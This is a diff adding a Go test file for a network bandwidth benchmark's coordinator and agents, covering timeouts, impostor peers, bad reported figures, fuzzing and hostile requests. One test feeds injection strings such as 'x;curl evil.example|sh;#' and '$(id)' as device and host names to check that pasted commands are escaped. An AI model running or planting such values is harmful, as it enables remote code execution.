@@ -1,0 +1,298 @@
+package fabric
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"math"
+	"net"
+	"net/netip"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/gobw/gobw/internal/bench"
+	"github.com/gobw/gobw/internal/control"
+	"github.com/gobw/gobw/internal/control/frame"
+	"github.com/gobw/gobw/internal/plan"
+	"github.com/gobw/gobw/internal/testrun"
+	"github.com/gobw/gobw/report/matrix"
+	"github.com/gobw/gobw/report/stats"
+	"github.com/gobw/gobw/verbs"
+	"github.com/gobw/gobw/verbs/roce"
+)
+
+// TestSilentConnectionsHoldNobody: connections that say nothing, however many, neither keep a run from starting nor from ending.
+func TestSilentConnectionsHoldNobody(t *testing.T) {
+	for _, many := range []int{1, 3000} {
+		t.Run(fmt.Sprint(many), func(t *testing.T) {
+			o, err := run{ranks: 4, late: map[int]time.Duration{0: time.Second, 1: time.Second, 2: time.Second, 3: time.Second}, during: func(n *network) {
+				for range many {
+					if _, err := n.dial(context.Background(), 200); err != nil {
+						t.Error(err)
+					}
+				}
+				time.Sleep(3 * time.Second)
+				for range many { // at the end of the run, too
+					if conn, err := n.dial(context.Background(), 200); err == nil {
+						defer func() { _ = conn.Close() }()
+					}
+				}
+				time.Sleep(time.Minute)
+			}}.run(t)
+			if err != nil || o.Fabric.Took() != 4 || len(findings(o.Fabric)) > 0 {
+				t.Errorf("%v: %s", err, o.Fabric.Line())
+			}
+			if took := o.Finished.Sub(o.Started); took > 30*time.Second {
+				t.Errorf("the run took %v", took)
+			}
+		})
+	}
+}
+
+// TestAnotherRunsRankZero: what a rank 0 says that has not proven itself is no answer: two runs on a host look at each other's ports.
+func TestAnotherRunsRankZero(t *testing.T) {
+	o, err := run{ranks: 3, late: map[int]time.Duration{1: time.Second}, agent: func(rank int, c *AgentConfig) bool {
+		if rank == 1 {
+			c.Places = []string{"another:1", "node0:1"}
+			dial := c.Dial
+			c.Dial = func(ctx context.Context, place string) (net.Conn, error) {
+				if place == "node0:1" {
+					return dial(ctx, place)
+				}
+				up, down := newStream(), newStream()
+				theirs, ours := &memoryConn{in: up, out: down, local: netAddr(1), remote: netAddr(2)}, &memoryConn{in: down, out: up, local: netAddr(2), remote: netAddr(1)}
+				s := frame.New(theirs, frame.Options{Bears: time.Second, Token: Key("another job", "secret")})
+				go func() {
+					_, err := s.Meet(ctx, frame.Hello{}, time.Second)
+					s.End(frame.KindError, fmt.Sprint("refused: ", err), false)
+				}()
+				return ours, nil
+			}
+		}
+		return true
+	}}.run(t)
+	if err != nil || o.agents[1] != nil || o.Fabric.Took() != 3 {
+		t.Errorf("%v, agent %v: %s", err, o.agents[1], o.Fabric.Line())
+	}
+}
+
+func netAddr(n byte) net.Addr {
+	return net.TCPAddrFromAddrPort(netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 0, 1, n}), 1))
+}
+
+// TestImpossibleFigures: what an agent reports is held against it and not against the others, and makes no number that is none.
+func TestImpossibleFigures(t *testing.T) {
+	for name, bits := range map[string]float64{"too large for a float32": 1e39, "negative": -1, "none": math.MaxFloat64} {
+		t.Run(name, func(t *testing.T) {
+			o, err := run{ranks: 5, worker: func(rank int) *fake {
+				f := &fake{rank: rank}
+				if rank == 3 {
+					f.bits = bits
+				}
+				return f
+			}}.run(t)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if h := o.host(3); h.Cause != matrix.Lost || !strings.Contains(h.Reason, "figures that cannot be") || len(findings(o.Fabric)) > 0 {
+				t.Errorf("%+v, findings %q", h, findings(o.Fabric))
+			}
+			if _, err := json.Marshal(o.Document); err != nil {
+				t.Error(err)
+			}
+		})
+	}
+}
+
+// TestARunEnds: an agent that gives each answer at the last moment does not stretch a run beyond twice its time and a minute.
+func TestARunEnds(t *testing.T) {
+	o, err := run{ranks: 5, cfg: long, worker: func(rank int) *fake {
+		f := &fake{rank: rank}
+		if rank == 3 {
+			f.stall = lateResult - time.Second
+		}
+		return f
+	}}.run(t)
+	if err == nil || !strings.Contains(err.Error(), "the time was up after round") || o.Complete || o.Fabric.Judged.Tested == 0 {
+		t.Errorf("%v: %s", err, o.Fabric.Line())
+	}
+	if took := o.Finished.Sub(o.Started); took > 4*time.Minute {
+		t.Errorf("the run took %v", took)
+	}
+}
+
+// TestFactsAreBounded: an agent may say so much of its host, and no more.
+func TestFactsAreBounded(t *testing.T) {
+	o, err := run{ranks: 4, agent: func(rank int, c *AgentConfig) bool {
+		if rank == 3 {
+			c.Facts = func() Facts { return Facts{Warnings: []string{strings.Repeat("x", mostFacts)}} }
+		}
+		return true
+	}}.run(t)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if h := o.host(3); h.Word != stats.Fail || o.Fabric.Took() != 3 {
+		t.Errorf("%+v", h)
+	}
+}
+
+// TestCommandsToPaste: names that agents tell of their hosts and devices do not come into a command as they are.
+func TestCommandsToPaste(t *testing.T) {
+	for name, tt := range map[string]struct{ host, device, want string }{
+		"good":      {"node3", "roce0@eth1", "at node3: gobw write node0 -s 65536 -D 5 -d roce0@eth1"},
+		"a device":  {"node3", "x;curl evil.example|sh;#", "-d 'x;curl evil.example|sh;#'"},
+		"quotes":    {"node3", "x'$(id)'", `-d 'x'\''$(id)'\'''`},
+		"a host":    {"x;curl evil.example|sh", "roce0", ""},
+		"an option": {"--save=/etc/passwd", "roce0", ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			c := &coordinator{cfg: Config{Plan: plan.Spec{Operation: plan.Write, Sizes: []int{65536}}}, part: []*peer{{index: 0}, {index: 1}}}
+			m := &matrix.Matrix{Rails: []string{tt.device}, Hosts: []matrix.Host{{Name: tt.host}, {Name: "node0"}}}
+			f := matrix.Finding{Subject: matrix.WholeOf, Verdict: stats.Failure(matrix.Slow, "", "")}
+			m.Findings = []matrix.Finding{f}
+			c.explain(m, &m.Findings[0])
+			if got := m.Findings[0].Settle; !strings.Contains(got, tt.want) || tt.want == "" && got != "" {
+				t.Errorf("got %s, want %s", got, tt.want)
+			}
+		})
+	}
+}
+
+// measuring is a process that measures on the software device, without a process.
+func measuring(t testing.TB) *measurer {
+	t.Helper()
+	m := &measurer{cfg: MeasureConfig{Open: func(string, netip.Addr) (verbs.Device, netip.Addr, error) {
+		at := netip.MustParseAddr("127.0.0.1")
+		d, err := roce.New(roce.Options{Address: at}).Open(roce.DeviceName)
+		return d, at, err
+	}, Options: bench.ExchangeOptions{}}}
+	t.Cleanup(func() {
+		if err := m.close(); err != nil {
+			t.Error(err)
+		}
+	})
+	return m
+}
+
+// TestHostileRankZero: a worker does not crash, hang or serve for ever, whatever rank 0 asks of it.
+func TestHostileRankZero(t *testing.T) {
+	m := measuring(t)
+	spec := plan.Spec{Operation: plan.Write, Kind: plan.Bandwidth, Transport: verbs.RC, Sizes: []int{4096}, QPs: 1, Duration: time.Hour}
+	ask := func(kind string, body any) (any, error) {
+		q, err := frame.Of(kind, body)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, answer, err := m.answer(t.Context(), q)
+		return answer, err
+	}
+	refused := func(answer any, err error, want string) {
+		t.Helper()
+		b, _ := json.Marshal(answer)
+		if !strings.Contains(string(b)+fmt.Sprint(err), want) {
+			t.Errorf("%s, %v: want %q", b, err, want)
+		}
+	}
+	answer, err := ask(kindOpen, OpenOrder{Address: "127.0.0.1"})
+	refused(answer, err, "one device is opened")
+	huge := spec
+	huge.Sizes = []int{1 << 40}
+	answer, err = ask(kindOpen, OpenOrder{Address: "127.0.0.1", Rails: []string{""}, Plan: huge})
+	refused(answer, err, `"error"`)
+	answer, err = ask(kindGo, GoOrder{Addresses: make([][][]control.Address, 1)})
+	refused(answer, err, "other flows are to run than were prepared")
+	if answer, err = ask(kindOpen, OpenOrder{Address: "127.0.0.1", Rails: []string{""}, Plan: spec}); err != nil || answer.(Facts).Rails[0].Error != "" {
+		t.Fatal(answer, err)
+	}
+	answer, err = ask(kindPrepare, PrepareOrder{Flows: make([]Part, mostQueuePairs+1)})
+	refused(answer, err, "this end grants 16384 queue pairs")
+	answer, err = ask(kindPrepare, PrepareOrder{Flows: make([]Part, 2)})
+	refused(answer, err, `"qpn"`)
+	for _, addresses := range [][][][]control.Address{nil, {}, {nil}, {make([][]control.Address, 1)}, {make([][]control.Address, 3)}, make([][][]control.Address, 2)} {
+		answer, err = ask(kindGo, GoOrder{Addresses: addresses})
+		refused(answer, err, "other flows are to run than were prepared")
+	}
+	answer, err = ask(kindGo, GoOrder{Addresses: [][][]control.Address{make([][]control.Address, 2)}, In: 1 << 60})
+	refused(answer, err, "neither is one")
+	answer, err = ask(kindGo, GoOrder{Addresses: [][][]control.Address{{make([]control.Address, 5), nil}}})
+	refused(answer, err, "the peer sent 5 addresses")
+	answer, err = ask("attack", nil)
+	refused(answer, err, "nobody knows")
+	a := &agent{cfg: AgentConfig{Worker: func(int) Worker { return &fake{} }, Facts: func() Facts { return Facts{} }}}
+	if _, _, err := a.do(t.Context(), message(t, kindOpen, OpenOrder{Rails: make([]string, 1000)})); err == nil {
+		t.Error("a thousand devices were opened")
+	}
+	a.open(t.Context(), OpenOrder{Rails: make([]string, 2)})
+	if p := a.prepare(t.Context(), PrepareOrder{Rails: []int{0, 0}}); p.Error == "" {
+		t.Error("a rail was prepared twice at once")
+	}
+}
+
+func message(t testing.TB, kind string, body any) frame.Message {
+	t.Helper()
+	m, err := frame.Of(kind, body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
+
+// FuzzRankZero asks a worker for anything.
+func FuzzRankZero(f *testing.F) {
+	f.Add(kindOpen, `{"address":"127.0.0.1","rails":[""],"plan":{"operation":"write"}}`)
+	f.Add(kindPrepare, `{"round":1,"rails":[0],"flows":[{"initiates":true}]}`)
+	f.Add(kindGo, `{"round":1,"addresses":[[[{"qpn":1}],[]]],"in_ns":-5}`)
+	testrun.Fuzz(f, func(t *testing.T, kind, body string) {
+		if !json.Valid([]byte(body)) {
+			return
+		}
+		m := measuring(t)
+		ctx, cancel := context.WithTimeout(t.Context(), 10*time.Millisecond)
+		defer cancel()
+		for _, q := range []frame.Message{
+			message(t, kindOpen, OpenOrder{Address: "127.0.0.1", Rails: []string{""}, Plan: plan.Spec{Operation: plan.Write, Kind: plan.Bandwidth, Sizes: []int{64}, QPs: 1, Duration: time.Second}}),
+			message(t, kindPrepare, PrepareOrder{Flows: []Part{{Initiates: true}}}),
+			{Kind: kind, Body: json.RawMessage(body)},
+		} {
+			_, _, _ = m.answer(ctx, q)
+		}
+	})
+}
+
+// FuzzFigures lets an agent report any figures: they make a cell that can be written down, or none.
+func FuzzFigures(f *testing.F) {
+	f.Add(1e9, 1.0, 2.0, 3.0, false, "")
+	f.Add(1e39, 1.0, 2.0, 3.0, false, "")
+	f.Add(math.Inf(1), math.NaN(), -1.0, 1e300, true, "x")
+	testrun.Fuzz(f, func(t *testing.T, bits, low, middle, high float64, corrupt bool, said string) {
+		for _, kind := range []plan.Kind{plan.Bandwidth, plan.Latency} {
+			c := &coordinator{cfg: Config{Plan: plan.Spec{Operation: plan.Write, Kind: kind}}, reasons: map[[2]int]string{}, hosts: make([]host, 2)}
+			good := &Result{Rails: [][]Flow{{{Bits: 1e9, Quantiles: [5]float64{1, 1, 1, 1, 1}}}}}
+			bad := &Result{Rails: [][]Flow{{{Bits: bits, Quantiles: [5]float64{low, low, middle, high, high}, Corrupt: corrupt, Error: said}}}}
+			ends := flowEnds{initiator: end{&peer{result: bad, failedIn: -1}, 0}, target: end{&peer{rank: 1, result: good, failedIn: -1}, 0}}
+			x := c.cells(0, []int{0}, []flowEnds{ends})[0]
+			if v := float64(x.Value); x.State == matrix.Measured && !(v > 0 && v <= max(mostBits, mostLatency)) {
+				t.Errorf("%v became %v", bad, x)
+			}
+		}
+	})
+}
+
+// TestAnAgentThatEndsIsTold: why an agent is gone is said in the words of who looks at it.
+func TestAnAgentThatEndsIsTold(t *testing.T) {
+	for _, tt := range []struct {
+		err  error
+		want string
+	}{
+		{&control.LostError{Cause: control.ErrClosed}, "its agent has ended"},
+		{&control.LostError{Cause: control.ErrSilent}, "its host no longer answers"},
+		{errors.New("a message of 9 bytes"), "a message of 9 bytes"},
+	} {
+		if got := ended(tt.err).Error(); !strings.Contains(got, tt.want) {
+			t.Errorf("%v: %s, want %s", tt.err, got, tt.want)
+		}
+	}
+}
